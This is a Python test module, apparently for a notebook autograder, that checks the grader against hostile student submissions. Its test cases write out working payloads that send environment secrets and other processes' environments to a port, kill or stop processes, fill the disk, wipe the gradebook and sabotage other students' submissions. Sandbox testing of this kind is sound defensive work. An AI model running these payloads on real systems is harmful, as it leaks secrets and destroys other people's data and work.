"""Damaging the grader: what stays, what leaves, what stops others."""
from tests.grading.hostile.course import NAME, PORT, SECRET
from tests.grading.hostile.damage import damage


LATER = '''
code = """import glob, os, time
time.sleep({seconds})
for path in glob.glob({course!r} + "/source/*/*.ipynb"):
    open(path, "a").write("{word}")
time.sleep(60)"""
subprocess.Popen([sys.executable, "-c", code.format(
    course=COURSE, word="later", seconds=SECONDS)],
    start_new_session=True, stdin=-3, stdout=-3, stderr=-3)'''


@damage("SECONDS = 1" + LATER)
def detached_writer():
    """A detached process changes the source while others are graded."""


@damage("SECONDS = 60" + LATER)
def detached_sleeper():
    """A detached process waits for the grader to have gone."""


@damage("""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        time.sleep(60)
    os._exit(0)
os.wait()""")
def daemon():
    """A process forks twice, as daemons do, and stays."""


@damage("""
subprocess.Popen("trap '' TERM HUP INT; nohup sleep 60 & exec sleep 60",
                 shell=True, start_new_session=True)""")
def nohup():
    """A shell that ignores signals is left behind."""


SEND = f"""
import socket
def send(what):
    with socket.create_connection(("127.0.0.1", {PORT}), 2) as s:
        s.sendall(what.encode())
"""


def tried(code):
    """``code``, after which the rest runs whether it works or not."""
    return "\ntry:\n" + "\n".join(
        "    " + line for line in code.strip().split("\n")
    ) + "\nexcept Exception as e:\n    pass\n"


@damage(SEND + tried(f"send(os.environ['{SECRET}'])"))
def environment_sent():
    """A secret of the grader's environment is sent to a port."""


@damage(SEND + tried("""
for path in find(".secret"):
    send(open(path).read())"""))
def file_sent():
    """A secret file in the grader's home is sent to a port."""


@damage(f"\nprint(os.environ.get('{SECRET}'))")
def environment_printed():
    """A secret of the environment is printed into the feedback."""


@damage(SEND + tried("""
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            text = open(f"/proc/{pid}/environ").read()
        except OSError:
            continue
        print(text)
        send(text[:4000])"""))
def parents_environment():
    """The environments of other processes are read and sent."""


@damage("""
import signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)""")
def parent_killed():
    """The process that started the kernel is killed."""


@damage("""
import signal
# Only where processes are few: never outside a cage.
if os.getpid() < 2000:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and 1 < int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass""")
def everybody_killed():
    """Every process within reach is killed."""


@damage("""
import signal
if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGSTOP)""")
def parent_stopped():
    """The process that started the kernel is stopped for good."""


@damage("""
for top in COURSE, "../../..":
    try:
        for n in range(20):
            with open(os.path.join(top, f"fill{n}"), "wb") as file:
                file.write(bytes(10 << 20))
        break
    except OSError:
        pass""")
def disk_filled():
    """200 MB are written into the course folder."""


@damage(f"""
for path in find("autograded"):
    target = os.path.join(path, "zoe", "{NAME}")
    os.makedirs(target, exist_ok=True)
    with open(os.path.join(target, "{NAME}.ipynb"), "w") as file:
        file.write("{{}}")
    break""")
def neighbour_prevented():
    """A result for a student who comes later is put there first."""


@damage("""
for path in find("gradebook.db"):
    with sqlite3.connect(path) as db:
        db.execute("DELETE FROM grade_cell")
        db.execute("UPDATE assignment SET name = 'gone'")
    break""")
def assignment_removed():
    """The assignment is taken out of the gradebook."""


@damage("""
for path in find("submitted/*"):
    if "mallory" not in path:
        os.chmod(path, 0)
        os.rename(path, os.path.join(os.path.dirname(path),
                                     "was-" + os.path.basename(path)))""")
def neighbours_renamed():
    """The folders of all other students get other names."""
